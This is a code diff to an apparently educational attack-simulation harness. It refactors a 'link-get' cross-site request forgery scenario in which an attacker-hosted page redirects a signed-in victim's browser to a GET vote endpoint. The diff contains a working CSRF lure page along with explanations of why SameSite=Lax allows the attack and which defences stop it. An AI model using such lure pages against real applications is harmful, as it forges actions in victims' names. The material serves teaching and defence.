@@ -3,6 +3,9 @@
 import { stopped, succeeded, type Attack } from '../attack.ts'
 import { APP, EVIL } from '../world/hosts.ts'
 
+const page: NonNullable<Attack['lure']> = (_, app) =>
+  `<!doctype html><script>location.href = '${app}/api/vote?for=attacker'</script>`
+
 export const linkGet: Attack = {
   name: 'link-get',
   group: 'other sites',
@@ -10,17 +13,13 @@ export const linkGet: Attack = {
   what: 'The application counts votes by GET, a common mistake. The attacker’s page sends the victim’s browser there.',
   why: 'SameSite=Lax, also when it is the default, lets the cookie travel when a whole page is opened.',
   stops: 'No change by GET; SameSite=Strict; a token in a header.',
+  lure: page,
   control: 'session',
   succeedsOn: ['session', 'readable-cookie', 'httponly-cookie'],
   async run(scene) {
     await scene.signIn()
-    const to = `${APP}/api/vote?for=attacker`
-    await scene.thief.publish({
-      address: `${EVIL}/news`,
-      body: `<!doctype html><script>location.href = '${to}'</script>`,
-    })
-    const lure = await scene.browser.newPage()
-    await Promise.all([lure.waitForResponse((answer) => answer.url() === to), lure.goto(`${EVIL}/news`)])
+    await scene.thief.publish({ address: `${EVIL}/news`, body: page('evil', APP, scene.attacker) })
+    await scene.lure(`${EVIL}/news`, 'GET', '/api/vote?for=attacker')
     return scene.ledger.find({ deed: 'vote', by: scene.victim.email, detail: 'attacker' }).length > 0
       ? succeeded('the server counted the victim’s vote')
       : stopped('the request arrived, and the server counted no vote')
